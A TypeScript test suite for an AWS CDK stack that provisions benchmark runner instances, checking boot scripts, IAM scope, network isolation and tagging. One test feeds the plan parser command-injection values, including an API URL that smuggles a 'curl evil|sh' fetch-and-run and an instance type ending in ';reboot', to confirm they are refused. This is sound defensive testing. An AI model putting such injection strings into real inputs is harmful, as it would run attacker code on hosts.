import { Match, Template } from 'aws-cdk-lib/assertions';
import { parseFleetPlan } from '../../../lib/fleet/fleet-plan-file';
import { runnerArgs, runnerBootScript } from '../../../lib/fleet/user-data';
import { FleetStack } from '../../../lib/fleet-stack';
import { actionsOf, FLEET_FIXTURE, nagFindings, resourcesOf, roleStatements, testApp } from './helpers';

let stack: FleetStack;
let template: Template;
let nag: string[];

const userDataOf = (instanceType: string): string => {
  const instance = Object.values(resourcesOf(template, 'AWS::EC2::Instance')).find(
    (i) => i.Properties?.InstanceType === instanceType,
  );
  const body = (instance?.Properties?.UserData as { 'Fn::Base64'?: unknown } | undefined)?.['Fn::Base64'];
  // a plain string, or an Fn::Join when a token is inside
  if (typeof body === 'string') return body;
  const parts = (body as { 'Fn::Join'?: [string, unknown[]] } | undefined)?.['Fn::Join']?.[1] ?? [];
  return parts.map((p) => (typeof p === 'string' ? p : JSON.stringify(p))).join('');
};

const imageParameterOf = (instanceType: string): string => {
  const instance = Object.values(resourcesOf(template, 'AWS::EC2::Instance')).find(
    (i) => i.Properties?.InstanceType === instanceType,
  );
  const ref = (instance?.Properties?.ImageId as { Ref?: string } | undefined)?.Ref ?? '';
  return (template.toJSON().Parameters[ref] as { Default?: string } | undefined)?.Default ?? '';
};

beforeAll(() => {
  stack = new FleetStack(testApp(), 'BenchfleetFleet', { fleet: FLEET_FIXTURE });
  template = Template.fromStack(stack);
  nag = nagFindings(stack);
});

describe('AWS runner fleet', () => {
  it('launches one instance per planned VM', () => {
    template.resourceCountIs('AWS::EC2::Instance', 3);
    expect(stack.instances).toHaveLength(3);
  });

  it('picks the arm64 Amazon Linux 2023 image for Graviton types and x86_64 otherwise, by SSM parameter', () => {
    expect(imageParameterOf('c7g.large')).toMatch(
      /^\/aws\/service\/ami-amazon-linux-latest\/al2023-ami-.*-arm64$/,
    );
    expect(imageParameterOf('c7a.large')).toMatch(
      /^\/aws\/service\/ami-amazon-linux-latest\/al2023-ami-.*-x86_64$/,
    );
  });

  it('terminates on instance-initiated shutdown, requires IMDSv2 and encrypts the root volume', () => {
    template.allResourcesProperties('AWS::EC2::Instance', {
      InstanceInitiatedShutdownBehavior: 'terminate',
      BlockDeviceMappings: [Match.objectLike({ Ebs: Match.objectLike({ Encrypted: true }) })],
    });
    template.hasResourceProperties('AWS::EC2::LaunchTemplate', {
      LaunchTemplateData: { MetadataOptions: { HttpTokens: 'required' } },
    });
  });

  it('starts the runner under systemd with the run flags, and reads the key at boot instead of carrying it', () => {
    const script = userDataOf('c7g.large');
    expect(script).toContain('dnf install -y docker');
    expect(script).toContain('systemctl enable --now docker');
    expect(script).toContain(
      `/opt/benchfleet/runner.js --api ${FLEET_FIXTURE.apiUrl} --provider aws --instance-type c7g.large --run-id ${FLEET_FIXTURE.runId} --slots auto --shutdown-on-done`,
    );
    expect(script).toContain('EnvironmentFile=/etc/benchfleet/runner.env');
    expect(script).toContain(
      `aws secretsmanager get-secret-value --secret-id '${FLEET_FIXTURE.runnerKeySecretArn}' --query SecretString --output text --region eu-west-1`,
    );
    expect(script).toContain('aws s3 cp "s3://benchfleet-runnerartifact-1a2b3c/runner/runner.js"');
    expect(script).toContain('systemctl enable --now benchfleet-runner.service');
    expect(script).not.toMatch(/--api-key/);
    expect(userDataOf('c7a.large')).toContain('--instance-type c7a.large');
  });

  it('opens no inbound port, uses no NAT, and allows Session Manager', () => {
    template.resourceCountIs('AWS::EC2::NatGateway', 0);
    template.resourceCountIs('AWS::EC2::SecurityGroupIngress', 0);
    for (const sg of Object.values(resourcesOf(template, 'AWS::EC2::SecurityGroup'))) {
      expect(sg.Properties?.SecurityGroupIngress).toBeUndefined();
    }
    template.hasResourceProperties('AWS::IAM::Role', {
      ManagedPolicyArns: [
        Match.objectLike({
          'Fn::Join': ['', Match.arrayWith([':iam::aws:policy/AmazonSSMManagedInstanceCore'])],
        }),
      ],
    });
  });

  it('lets the instance role read only the runner bundle and the runner key', () => {
    const roleId = Object.keys(resourcesOf(template, 'AWS::IAM::Role'))[0] as string;
    const statements = roleStatements(template, roleId);
    expect(statements.flatMap(actionsOf).sort()).toEqual(['s3:GetObject', 'secretsmanager:GetSecretValue']);
    const secret = statements.find((s) => actionsOf(s).includes('secretsmanager:GetSecretValue'));
    expect(secret?.Resource).toBe(FLEET_FIXTURE.runnerKeySecretArn);
    const bundle = statements.find((s) => actionsOf(s).includes('s3:GetObject'));
    expect(JSON.stringify(bundle?.Resource)).toContain(
      ':s3:::benchfleet-runnerartifact-1a2b3c/runner/runner.js',
    );
  });

  it('tags every instance with the project and the run id for the nuke sweep', () => {
    template.allResourcesProperties('AWS::EC2::Instance', {
      Tags: Match.arrayWith([
        { Key: 'benchfleet:project', Value: 'benchfleet' },
        { Key: 'benchfleet:run-id', Value: String(FLEET_FIXTURE.runId) },
      ]),
      PropagateTagsToVolumeOnCreation: true,
    });
    template.hasResourceProperties('AWS::EC2::VPC', {
      Tags: Match.arrayWith([{ Key: 'benchfleet:run-id', Value: String(FLEET_FIXTURE.runId) }]),
    });
  });

  it('passes cdk-nag AwsSolutions with every finding acknowledged', () => {
    expect(nag).toEqual([]);
  });
});

describe('fleet plan file', () => {
  it('accepts the AWS part of planFleet() or a whole plan', () => {
    const whole = parseFleetPlan({
      ...FLEET_FIXTURE,
      plan: { aws: FLEET_FIXTURE.plan, azure: [], slots: 'auto' },
    });
    expect(whole.plan).toHaveLength(2);
  });

  it('refuses values that would break out of the boot script', () => {
    expect(() => parseFleetPlan({ ...FLEET_FIXTURE, apiUrl: "https://x.example/'; curl evil|sh" })).toThrow(
      /apiUrl/,
    );
    expect(() =>
      parseFleetPlan({
        ...FLEET_FIXTURE,
        plan: [{ instance_type: 'c7g.large;reboot', arch: 'arm64', vm_count: 1 }],
      }),
    ).toThrow(/plan/);
    expect(() => parseFleetPlan({ ...FLEET_FIXTURE, runnerKeySecretArn: 'arn:aws:s3:::bucket' })).toThrow(
      /runnerKeySecretArn/,
    );
  });

  it('builds the runner command line the runner CLI parses', () => {
    expect(runnerArgs({ fleet: FLEET_FIXTURE, instanceType: 'c7g.large' })).toEqual([
      '--api',
      FLEET_FIXTURE.apiUrl,
      '--provider',
      'aws',
      '--instance-type',
      'c7g.large',
      '--run-id',
      String(FLEET_FIXTURE.runId),
      '--slots',
      'auto',
      '--shutdown-on-done',
    ]);
    const script = runnerBootScript({ fleet: FLEET_FIXTURE, instanceType: 'c7g.large' }).join('\n');
    expect(script.startsWith('set -euo pipefail')).toBe(true);
  });
});
